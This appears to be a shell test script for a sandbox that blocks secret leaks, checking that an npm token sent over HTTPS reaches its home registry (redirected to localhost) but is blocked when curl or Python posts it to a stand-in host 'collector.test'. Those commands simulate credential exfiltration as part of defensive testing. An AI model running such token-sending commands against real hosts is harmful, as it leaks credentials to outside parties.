#!/bin/sh
# 240-tls-home-domain: a real-format credential (not a canary) over HTTPS is
# allowed to its own home domain and blocked anywhere else. The npm registry
# name is mapped to 127.0.0.1 by the test's own DNS server (dns_sandbox).
. "$(dirname "$0")/lib.sh"
dns_sandbox
. "$top_srcdir/t/tls/lib-tls.sh"
make_ca
start_https 127.0.0.1 web

# an npm token with a valid CRC32/base62 tail (the detector's own sample)
TOKEN=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
J="--allow registry.npmjs.org --allow collector.test --allow 127.0.0.1 --no-canaries"

out=$(jail $J -- curl -s --cacert "$CA" -H "Authorization: Bearer $TOKEN" \
	"https://registry.npmjs.org:$web_PORT/home" 2>&1)
check "curl: npm token to the npm registry (its home) goes through" grep -qF "$TOKEN" "$web_LOG"
check "the home-domain send is evented as allowed" sh -c "! grep -q '\"verdict\":\"deny\"' '$T/events.jsonl'"
: > "$web_LOG"
out=$(jail $J -- curl -s -S --cacert "$CA" -H "Authorization: Bearer $TOKEN" \
	"https://collector.test:$web_PORT/away" 2>&1); rc=$?
check "curl: the same token to another host is blocked (exit $rc)" [ "$rc" -ne 0 ]
check "the foreign host never received it" no_token "$web_LOG"
check "the block names the npm detector and the host" event_has '"detector":"npm-token"' '"host":"collector.test"' '"action":"blocked"'
check "the event shows the token only redacted" no_token "$T/events.jsonl"
out=$(jail $J -- python3 -c "
import urllib.request, ssl, sys
ctx = ssl.create_default_context(cafile='$CA')
for host in ('registry.npmjs.org', 'collector.test'):
    req = urllib.request.Request('https://%s:$web_PORT/py' % host, data=b'{\"token\":\"$TOKEN\"}')
    try:
        urllib.request.urlopen(req, context=ctx).read(); print(host, 'sent')
    except Exception as e: print(host, 'blocked')" 2>/dev/null)
check "python3: home domain allowed, other host blocked" [ "$out" = "$(printf 'registry.npmjs.org sent\ncollector.test blocked')" ]
finish
